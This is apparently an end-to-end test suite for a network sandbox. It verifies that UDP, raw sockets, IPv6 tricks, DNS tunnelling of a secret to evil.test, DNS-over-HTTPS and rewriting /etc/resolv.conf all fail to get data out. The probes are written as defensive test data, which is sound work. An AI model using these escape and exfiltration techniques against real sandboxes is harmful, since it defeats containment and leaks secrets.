"""What else there is in a network: datagrams, other families and protocols, and names as a way out."""

from __future__ import annotations

import secrets
from typing import TYPE_CHECKING

from tests.e2e.legs import (
    EVIL_V4,
    EVIL_V6,
    Leg,
    arrived,
    ask,
    asked,
    curl,
    inside,
    look_up,
    needs_sinks,
    outside,
    run,
    speak,
    tcp,
    udp,
)

if TYPE_CHECKING:
    from tests.e2e.lab import Lab

pytestmark = needs_sinks

NAME_SERVER_V4 = "203.0.113.53"
NAME_SERVER_V6 = "2001:db8::53"
OWN = {"own": curl("https://allowed.test/", bare=True)}
HELLO = {"own": "hello from allowed.test"}


def test_nothing_but_tcp_leaves(lab: Lab) -> None:
    """Datagrams are refused at once, so that a QUIC client falls back; sockets of other kinds lead nowhere. (A30)"""
    datagrams = {
        f"{host} {port}": udp(host, port) for host in (EVIL_V4, EVIL_V6, "203.0.113.10") for port in (9, 123, 443)
    }
    multipath = {"MPTCP": speak("AF_INET", "SOCK_STREAM", 262, EVIL_V4, 22)}
    others = {
        "UDP-Lite": speak("AF_INET", "SOCK_DGRAM", 136, EVIL_V4, 9),
        "SCTP": speak("AF_INET", "SOCK_STREAM", 132, EVIL_V4, 22),
        "ping": speak("AF_INET", "SOCK_DGRAM", 1, EVIL_V4, 0),
        "raw ICMP": speak("AF_INET", "SOCK_RAW", 1, EVIL_V4, 0),
        "raw TCP": speak("AF_INET", "SOCK_RAW", 6, EVIL_V4, 22),
        "raw v6": speak("AF_INET6", "SOCK_RAW", 58, EVIL_V6, 0),
    }
    http3 = {"HTTP/3 first": curl("--http3", "https://allowed.test/", bare=True)}

    assert outside(lab, datagrams | multipath) == dict.fromkeys(datagrams, "sent") | {"MPTCP": "SSH-2.0-laboratory"}
    assert sum(arrived(lab).values()) == len(datagrams | multipath)
    said = inside(lab, "--allow allowed.test", datagrams | multipath | others | http3 | OWN).said

    assert said == {
        **dict.fromkeys(datagrams, "unreachable"),
        "MPTCP": "reset",
        "UDP-Lite": "unreachable",
        "SCTP": "Protocol not supported",
        "ping": "unreachable",
        "raw ICMP": "unreachable",
        "raw TCP": "unreachable",
        "raw v6": "unreachable",
        "HTTP/3 first": "hello from allowed.test",
        **HELLO,
    }
    assert arrived(lab) == {"allowed.test 443": 2}


def test_ipv6_is_no_way_around(lab: Lab) -> None:
    """The same refusals, at once, for all of its addresses; a name has none. (A31)"""
    legs = {
        "by name": curl("-6", "https://evil.test/", bare=True),
        "by address": curl("--insecure", f"https://[{EVIL_V6}]/", bare=True),
        "by address and proxy": curl("--insecure", f"https://[{EVIL_V6}]/"),
        "waits for a banner": tcp(EVIL_V6, 22),
        "v4 in v6": tcp(f"::ffff:{EVIL_V4}", 22),
        "an allowed name, v6 only": curl("-6", "https://allowed.test/", bare=True),
    }
    nearby = {
        "link-local": tcp("fe80::1%lo", 22),
        "device that is not there": tcp("fe80::1%eth0", 22),
        "multicast": udp("ff02::1%lo", 9),
        "translated": tcp("64:ff9b::cb00:710b", 22),
    }

    assert outside(lab, legs) == {
        "by name": "hello from evil.test",
        "by address": "hello from evil.test",
        "by address and proxy": "hello from evil.test",
        "waits for a banner": "SSH-2.0-laboratory",
        "v4 in v6": "SSH-2.0-laboratory",
        "an allowed name, v6 only": "hello from allowed.test",
    }
    said = inside(lab, "--allow allowed.test", legs | nearby | OWN).said

    assert said == {
        "by name": "no such name",
        "by address": "cut",
        "by address and proxy": "403",
        "waits for a banner": "reset",
        "v4 in v6": "reset",
        "an allowed name, v6 only": "no such name",
        "link-local": "reset",
        "device that is not there": "no such name",
        "multicast": "Invalid argument",
        "translated": "reset",
        **HELLO,
    }
    assert arrived(lab) == {"allowed.test 443": 1}


def test_a_question_carries_nothing_out(lab: Lab) -> None:
    """Names that are not allowed do not exist, and of no question does anybody outside hear. (A33)"""
    secret = secrets.token_hex(20)
    legs = {
        "by name": look_up(f"{secret}.x.evil.test"),
        "to a resolver": ask(NAME_SERVER_V4, f"{secret}.evil.test"),
        "for text": ask(NAME_SERVER_V6, f"{secret}.evil.test", "TXT"),
        "in reverse": ask(NAME_SERVER_V4, "11.113.0.203.in-addr.arpa", "PTR"),
        "below an allowed name": ask(NAME_SERVER_V4, f"{secret}.allowed.test"),
        "below it, for text": ask(NAME_SERVER_V4, f"{secret}.allowed.test", "TXT"),
    }
    hundred = {f"number {number}": look_up(f"{number}-{secret}.evil.test") for number in range(100)}

    assert outside(lab, legs) == {
        "by name": "v4 v6",
        "to a resolver": "1 answer",
        "for text": "no answer",
        "in reverse": "1 answer",
        "below an allowed name": "1 answer",
        "below it, for text": "no answer",
    }
    assert {name for name in asked(lab) if secret in name} == {
        f"{secret}.{parent}" for parent in ("x.evil.test", "evil.test", "allowed.test")
    }
    said = inside(lab, "--allow allowed.test", legs | hundred | OWN).said

    assert said == {
        "by name": "no such name",
        "to a resolver": "NXDOMAIN",
        "for text": "NXDOMAIN",
        "in reverse": "NXDOMAIN",
        "below an allowed name": "made up",
        "below it, for text": "no answer",
        **dict.fromkeys(hundred, "no such name"),
        **HELLO,
    }
    assert asked(lab) <= {"allowed.test"}
    assert arrived(lab) == {"allowed.test 443": 1}


def test_no_other_resolver_answers(lab: Lab) -> None:
    """Whatever resolver is asked is the sandbox's own, none is reached another way, and it stays the one. (A34)"""
    legs = {
        "UDP": ask(NAME_SERVER_V4, "evil.test"),
        "UDP, v6": ask(NAME_SERVER_V6, "evil.test"),
        "TCP": ask(NAME_SERVER_V4, "evil.test", over="tcp"),
        "TCP, v6": ask(NAME_SERVER_V6, "evil.test", over="tcp"),
        "allowed, UDP": ask(NAME_SERVER_V4, "allowed.test"),
        "allowed, TCP": ask(NAME_SERVER_V6, "allowed.test", over="tcp"),
        "no question": udp(EVIL_V4, 53),
        "HTTPS": curl("https://doh.evil.test/dns-query"),
        "HTTPS, without": curl("https://doh.evil.test/dns-query", bare=True),
    }
    changes = {
        "TLS": tcp(NAME_SERVER_V4, 853),
        "a line more": Leg("write", ("/etc/resolv.conf",)),
        "another file": run("sh", "-c", "echo nameserver 203.0.113.53 >/tmp/r && mv /tmp/r /etc/resolv.conf"),
        "what stands there": run("cat", "/etc/resolv.conf"),
    }

    assert outside(lab, legs) == {
        **dict.fromkeys(("UDP", "UDP, v6", "TCP", "TCP, v6", "allowed, UDP", "allowed, TCP"), "1 answer"),
        "no question": "sent",
        **dict.fromkeys(("HTTPS", "HTTPS, without"), "hello from evil.test"),
    }
    assert arrived(lab)["evil.test 53"] == 1
    said = inside(lab, "--allow allowed.test", legs | changes | OWN).said

    assert said == {
        **dict.fromkeys(("UDP", "UDP, v6", "TCP", "TCP, v6"), "NXDOMAIN"),
        **dict.fromkeys(("allowed, UDP", "allowed, TCP"), "made up"),
        "no question": "sent",
        "HTTPS": "403",
        "HTTPS, without": "no such name",
        "TLS": "reset",
        "a line more": "Read-only file system",
        "another file": "exit 1",
        "what stands there": "nameserver 198.18.0.1\noptions timeout:2 attempts:2",
        **HELLO,
    }
    assert asked(lab) <= {"allowed.test"}
    assert arrived(lab) == {"allowed.test 443": 1}
